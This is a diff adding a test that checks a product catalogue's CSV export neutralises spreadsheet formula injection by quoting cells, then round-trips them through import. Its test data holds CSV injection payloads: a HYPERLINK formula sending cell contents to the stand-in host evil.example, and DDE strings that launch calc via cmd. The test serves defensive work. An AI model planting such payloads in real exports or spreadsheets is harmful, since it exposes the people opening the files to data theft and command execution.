@@ -47,6 +47,12 @@ function file(rows: Row[], columns: string[] = [...CATALOGUE_CSV_COLUMNS]) {
 
 const importing = (body: Record<string, unknown>, person: Person = member) => call(person, 'POST', mine('/products/import'), body);
 
+const newProduct = async (body: Record<string, unknown>) => parseAnswer(await call(member, 'POST', mine('/products'), body), 201, CatalogueProduct);
+const newSku = async (productId: string, body: Record<string, unknown>) => {
+  const response = await call(member, 'POST', `/api/products/${productId}/skus`, body);
+  expect(response.statusCode, response.body).toBe(201);
+};
+
 /** A refused import: 400 naming each problem by line and column, and the database as it was. */
 async function expectRefusedImport(body: Record<string, unknown>, expected: CsvIssue[]) {
   const before = await catalogueSnapshot(t.database.db, supplier.id);
@@ -115,6 +121,48 @@ describe('template and export', () => {
       ['EXP-KEG', 28900, 7],
       ['EXP-CAN', 6850, null],
     ]);
+  });
+
+  it('text that a spreadsheet would run as a formula is exported behind a quote; numbers are not; importing the export gives back the same text', async () => {
+    // a supplier member plants formulas for the owner who opens the export (OWASP CSV injection, decision 0142)
+    const planted = await newProduct({
+      name: '=HYPERLINK("https://evil.example/?"&A1,"Click for the price list")',
+      style: '+Sour',
+      description: "-1 day fresh, @ the brewery",
+      origin: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+      tags: ['=1+1', 'hazy'],
+    });
+    const quoted = await newProduct({ name: "'=Quoted already", style: "'plain quote", description: 'Plain' });
+    await newSku(planted.id, { code: 'FORMULA-1', name: "=cmd|' /C calc'!A0", unitPriceCents: 1250, stockOnHand: 4 });
+    await newSku(quoted.id, { code: 'FORMULA-2', name: '-Half keg', unitPriceCents: 0 });
+    const response = await call(member, 'GET', mine('/products/export.csv'));
+    const parsed = Papa.parse<Record<string, string>>(response.body.replace(/^\uFEFF/, ''), { header: true, skipEmptyLines: true });
+    const row = (code: string) => parsed.data.find((cells) => cells.sku_code === code)!;
+    expect(row('FORMULA-1')).toMatchObject({
+      product_name: `'${planted.name}`,
+      style: "'+Sour",
+      description: "'-1 day fresh, @ the brewery",
+      origin: `'${planted.origin!}`,
+      tags: "'=1+1|hazy",
+      sku_name: "'=cmd|' /C calc'!A0",
+      // numbers stay numbers
+      price: '12.50',
+      stock_on_hand: '4',
+      tax_rate: '10',
+    });
+    // a value that starts with a quote before a formula character gets one more, so the import can take exactly one off
+    expect(row('FORMULA-2')).toMatchObject({ product_name: "''=Quoted already", style: "'plain quote", sku_name: "'-Half keg", price: '0.00' });
+    // no text cell of the file starts with a formula character
+    for (const cells of parsed.data) for (const value of Object.values(cells)) expect(value).not.toMatch(/^[=+\-@\t\r]/);
+
+    const report = parseAnswer(await importing({ columns: parsed.meta.fields, rows: parsed.data, dryRun: false }), 200, CatalogueImportReport);
+    expect(report.invalidRows).toBe(0);
+    const back = parseAnswer(await call(member, 'GET', mine(`/products/${planted.slug}`)), 200, CatalogueProduct);
+    expect(back).toMatchObject({ name: planted.name, style: '+Sour', description: planted.description, origin: planted.origin, tags: ['=1+1', 'hazy'] });
+    expect(back.skus.map((sku) => sku.name)).toEqual(["=cmd|' /C calc'!A0"]);
+    const backQuoted = parseAnswer(await call(member, 'GET', mine(`/products/${quoted.slug}`)), 200, CatalogueProduct);
+    expect(backQuoted).toMatchObject({ name: "'=Quoted already", style: "'plain quote" });
+    expect(backQuoted.skus.map((sku) => sku.name)).toEqual(['-Half keg']);
   });
 
   it('another supplier’s members get 404 for the export, the template and the import', async () => {
